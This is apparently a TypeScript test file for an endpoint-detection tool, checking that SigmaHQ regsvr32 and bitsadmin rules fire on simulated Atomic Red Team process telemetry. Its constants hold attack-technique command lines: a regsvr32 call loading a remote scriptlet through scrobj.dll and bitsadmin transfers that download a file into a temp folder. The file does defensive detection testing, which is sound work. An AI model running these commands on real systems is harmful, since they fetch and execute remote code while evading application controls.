// The SigmaHQ rules for the Atomic Red Team tests edrtail's demo replays (T1218.010 regsvr32
// scriptlets, T1197 bitsadmin downloads) hit the telemetry those tests produce, in S1 and Sysmon shape.
// The rules come from the corpus at EDRTAIL_SIGMA_RULES (test/helpers/sigma-corpus.ts); skipped without it.
import {readdirSync} from 'node:fs';
import {join} from 'node:path';
import {beforeAll, describe, expect, it} from 'vitest';
import {type LoadReport, loadRules, type RuleEngine} from '../../../source/core/rules/index.js';
import {sigmaCorpus} from '../../helpers/sigma-corpus.js';
import {s1ProcessCreation, sysmonEvent} from './rule-helpers.js';

const corpus = sigmaCorpus();
let files: string[];
let engine: RuleEngine;
let report: LoadReport;

const CMD = 'C:\\Windows\\System32\\cmd.exe';
const REGSVR32 = 'C:\\Windows\\System32\\regsvr32.exe';
const BITSADMIN = 'C:\\Windows\\System32\\bitsadmin.exe';
const T1218_010 =
	'regsvr32.exe /s /u /i:https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1218.010/src/RegSvr32.sct scrobj.dll';
const T1197 =
	'C:\\Windows\\System32\\bitsadmin.exe /transfer qcxjb7 /Priority HIGH https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md %temp%\\bitsadmin1_flag.ps1';
const T1197_DEMO =
	'bitsadmin.exe /transfer /Download /priority Foreground https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md C:\\Users\\alice\\AppData\\Local\\Temp\\bitsadmin_flag.ps1';

function shapes(image: string, cmdline: string) {
	return {
		's1-cf2': s1ProcessCreation({image, cmdline, name: image.split('\\').pop()}, {image: CMD, cmdline: 'cmd.exe /c'}),
		's1-dv': s1ProcessCreation({image, cmdline}, {image: CMD, cmdline: 'cmd.exe /c'}, 's1-dv'),
		sysmon: sysmonEvent({
			Image: image,
			CommandLine: cmdline,
			OriginalFileName: image.split('\\').pop()!.toUpperCase(),
			ParentImage: CMD,
			ParentCommandLine: 'cmd.exe /c',
		}),
	};
}

describe.skipIf(!corpus.root)('SigmaHQ regsvr32 and bitsadmin rules on Atomic telemetry', () => {
	beforeAll(() => {
		const dir = join(corpus.root!, 'windows', 'process_creation');
		files = readdirSync(dir)
			.filter(f => /^proc_creation_win_(regsvr32|bitsadmin)_/.test(f))
			.map(f => join(dir, f));
		({engine, report} = loadRules(files));
	});

	it('loads every regsvr32/bitsadmin rule', () => {
		expect(files.length).toBeGreaterThanOrEqual(10);
		expect(report.skipped).toEqual([]);
		expect(report.loaded).toBe(files.length + report.builtin);
	});

	for (const [shape, ev] of Object.entries(shapes(REGSVR32, T1218_010))) {
		it(`T1218.010 (${shape}) hits the regsvr32 network-pattern and flag rules, and the built-in`, () => {
			const ids = engine.evaluate(ev).map(h => h.id);
			expect(ids).toContain('867356ee-9352-41c9-a8f2-1be690d78216');
			expect(ids).toContain('b236190c-1c61-41e9-84b3-3fe03f6d76b0');
			expect(ids).toContain('ad5c66a0-25b4-4970-bf2c-a9f5ff38ec04');
		});
	}

	for (const [shape, ev] of Object.entries(shapes(BITSADMIN, T1197))) {
		it(`T1197 (${shape}) hits the bitsadmin download rules and the built-in`, () => {
			const hits = engine.evaluate(ev);
			const ids = hits.map(h => h.id);
			expect(ids).toContain('d059842b-6b9d-4ed1-b5c3-5b89143c6ede');
			expect(ids).toContain('5b80a791-ad9b-4b75-bcc1-ad4e1e89c200');
			expect(ids).toContain('2ddef153-167b-4e89-86b6-757a9e65dcac');
			expect(ids).toContain('4ed0461c-2bab-406e-ad9a-1d453e1aebb7');
			const download = hits.find(h => h.id === 'd059842b-6b9d-4ed1-b5c3-5b89143c6ede')!;
			expect(download.tags).toContain('attack.t1197');
			const cl = download.fields.find(f => f.field === 'CommandLine')!;
			expect(cl.spans.map(([s, e]) => cl.value.slice(s, e).toLowerCase())).toContain(' /transfer ');
		});
	}

	it("the demo's bitsadmin variant hits the download rule", () => {
		for (const ev of Object.values(shapes(BITSADMIN, T1197_DEMO)))
			expect(engine.evaluate(ev).map(h => h.id)).toContain('d059842b-6b9d-4ed1-b5c3-5b89143c6ede');
	});

	it('benign regsvr32 and bitsadmin use stays quiet under the built-in rules', () => {
		const builtinOnly = loadRules([]).engine;
		const benign = [
			shapes(REGSVR32, 'regsvr32.exe /s "C:\\Program Files\\Common Files\\microsoft shared\\ink\\tiptsf.dll"'),
			shapes(BITSADMIN, 'bitsadmin.exe /list /allusers'),
			shapes('C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s BITS'),
		];
		for (const s of benign) for (const ev of Object.values(s)) expect(builtinOnly.evaluate(ev)).toEqual([]);
	});
});
